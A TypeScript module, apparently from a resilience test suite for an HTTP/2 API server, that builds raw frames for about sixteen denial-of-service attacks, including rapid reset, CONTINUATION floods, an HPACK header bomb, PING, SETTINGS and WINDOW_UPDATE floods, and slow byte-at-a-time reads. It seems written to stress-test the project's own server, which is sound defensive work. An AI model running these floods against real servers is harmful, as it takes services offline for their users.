// Attacks by frames of HTTP/2: cheap to send, and expensive for a server that handles each at once.

import { encodeHeaders, FLAG, FRAME, frame } from "../raw-http2.ts";
import { type Attack, pause, repeat, type Target } from "./attack.ts";
import { http2Headers, onSessions, type RawSession } from "./wire.ts";

const SELVES = "/apis/management.postern/v1/selves";

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const INITIAL_WINDOW_SIZE = 4;
const HEADER_TABLE_SIZE = 1;
const setting = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), uint32(value)]);

type FrameFlood = {
  readonly name: string;
  /** Frames that every connection begins with. */
  readonly first?: (target: Target) => readonly Buffer[];
  /** Frames that are sent over and over; `stream` gives the next number of a stream of the client's. */
  readonly batch: (stream: () => number, target: Target) => readonly Buffer[];
  readonly sessions?: number;
  readonly neverReads?: boolean;
};

const frameFlood = ({ name, first = () => [], batch, sessions = 4, neverReads = false }: FrameFlood): Attack => ({
  name: `HTTP/2: ${name}`,
  shows: /^frames$/,
  run: (target, count, signal) =>
    onSessions(target, sessions, count, signal, async (session) => {
      let next = 1;
      const stream = (): number => (next += 2);
      if (neverReads) session.socket.pause();
      session.send(...first(target));
      while (session.isOpen() && !signal.aborted && next < 2 ** 30) {
        const frames = batch(stream, target);
        session.send(...frames);
        count("frames", frames.length);
        await session.drained();
      }
    }),
});

/** A name and value for the table of both sides, and as many references to it as fit: one byte each on the wire. */
function headerBomb(): Buffer {
  const value = Buffer.alloc(3_900, 0x61);
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value]);
  return Buffer.concat([literal, Buffer.alloc(12_000, 0xbe)]);
}
const pseudoHeaders = (path: string): Buffer =>
  encodeHeaders({ ":method": "GET", ":scheme": "https", ":authority": "localhost", ":path": path });

/** Opens as many answers as it may, and takes them a byte at a time. */
async function sip(
  session: RawSession,
  target: Target,
  path: string,
  signal: AbortSignal,
  increment: number,
): Promise<void> {
  const streams = repeat(200, (index) => 1 + 2 * index);
  session.send(...streams.map((stream) => http2Headers(stream, { path, key: target.key })));
  while (session.isOpen() && !signal.aborted) {
    await pause(50, signal);
    session.send(
      ...streams.map((stream) => frame(FRAME.windowUpdate, 0, stream, uint32(increment))),
      frame(FRAME.windowUpdate, 0, 0, uint32(increment * streams.length)),
    );
  }
}

export const FRAME_ATTACKS: readonly Attack[] = [
  frameFlood({
    name: "rapid reset with the weakest key",
    batch: (stream, { weak }) =>
      repeat(100, () => {
        const id = stream();
        const reset = frame(FRAME.reset, 0, id, uint32(8));
        return Buffer.concat([http2Headers(id, { path: SELVES, key: weak }), reset]);
      }),
  }),
  frameFlood({
    name: "rapid reset without a credential, a new connection after each 900",
    sessions: 12,
    batch: (stream) =>
      repeat(900, () => {
        const id = stream();
        return Buffer.concat([http2Headers(id, { path: "/version" }), frame(FRAME.reset, 0, id, uint32(8))]);
      }),
  }),
  frameFlood({
    name: "requests that make the server reset them (made you reset)",
    batch: (stream, { weak }) =>
      repeat(100, () => {
        const id = stream();
        // A window update of nothing is an error of the stream, which the server has to end.
        const wrong = frame(FRAME.windowUpdate, 0, id, uint32(0));
        return Buffer.concat([http2Headers(id, { path: SELVES, key: weak }), wrong]);
      }),
  }),
  frameFlood({
    name: "CONTINUATION without an end",
    first: () => [frame(FRAME.headers, FLAG.endStream, 1, pseudoHeaders("/version"))],
    batch: () => repeat(64, () => frame(FRAME.continuation, 0, 1, encodeHeaders({ x: "a".repeat(1_000) }))),
  }),
  frameFlood({
    name: "empty CONTINUATION without an end",
    first: () => [frame(FRAME.headers, FLAG.endStream, 1, pseudoHeaders("/version"))],
    batch: () => repeat(500, () => frame(FRAME.continuation, 0, 1)),
  }),
  frameFlood({
    name: "header lists of 47 MB in 16 kB",
    batch: (stream) =>
      repeat(4, () =>
        frame(
          FRAME.headers,
          FLAG.endHeaders | FLAG.endStream,
          stream(),
          Buffer.concat([pseudoHeaders("/version"), headerBomb()]),
        ),
      ),
  }),
  frameFlood({ name: "PING flood", batch: () => repeat(500, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))) }),
  frameFlood({
    name: "PING flood by who never reads",
    neverReads: true,
    batch: () => repeat(500, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  }),
  frameFlood({
    name: "SETTINGS flood",
    batch: () => repeat(200, (index) => frame(FRAME.settings, 0, 0, setting(HEADER_TABLE_SIZE, index))),
  }),
  frameFlood({
    name: "SETTINGS flood by who never reads",
    neverReads: true,
    batch: () => repeat(200, (index) => frame(FRAME.settings, 0, 0, setting(HEADER_TABLE_SIZE, index))),
  }),
  frameFlood({
    name: "200 open streams, whose window every SETTINGS changes",
    first: ({ key }) =>
      repeat(200, (index) => http2Headers(1 + 2 * index, { path: `${SELVES}?watch=true&pretty=${index}`, key }, false)),
    batch: () =>
      repeat(200, (index) => frame(FRAME.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, 1 + (index % 2) * 65_535))),
  }),
  frameFlood({
    name: "WINDOW_UPDATE flood",
    batch: () => repeat(500, (index) => frame(FRAME.windowUpdate, 0, 0, uint32(1 + (index % 2)))),
  }),
  frameFlood({
    name: "WINDOW_UPDATE beyond what a window may be",
    batch: () => repeat(4, () => frame(FRAME.windowUpdate, 0, 0, uint32(0x7fffffff))),
    sessions: 12,
  }),
  frameFlood({
    name: "PRIORITY flood",
    batch: (stream) =>
      repeat(200, () => frame(FRAME.priority, 0, stream(), Buffer.concat([uint32(0), Buffer.from([7])]))),
  }),
  frameFlood({
    name: "empty DATA frames with the weakest key",
    first: ({ weak }) => [
      http2Headers(
        1,
        { path: SELVES, method: "POST", key: weak, headers: { "content-type": "application/json" } },
        false,
      ),
    ],
    batch: () => repeat(500, () => frame(FRAME.data, 0, 1)),
  }),
  {
    name: "HTTP/2: 2,400 large lists taken a byte at a time",
    shows: /^data$/,
    run: (target, count, signal) =>
      onSessions(
        target,
        12,
        count,
        signal,
        (session) => sip(session, target, `${target.cluster}/api/v1/configmaps`, signal, 1),
        () => ({
          settings: setting(INITIAL_WINDOW_SIZE, 1),
          onFrame: (type) => count(["data", "headers", "", "reset"][type] || "frames"),
        }),
      ),
  },
];
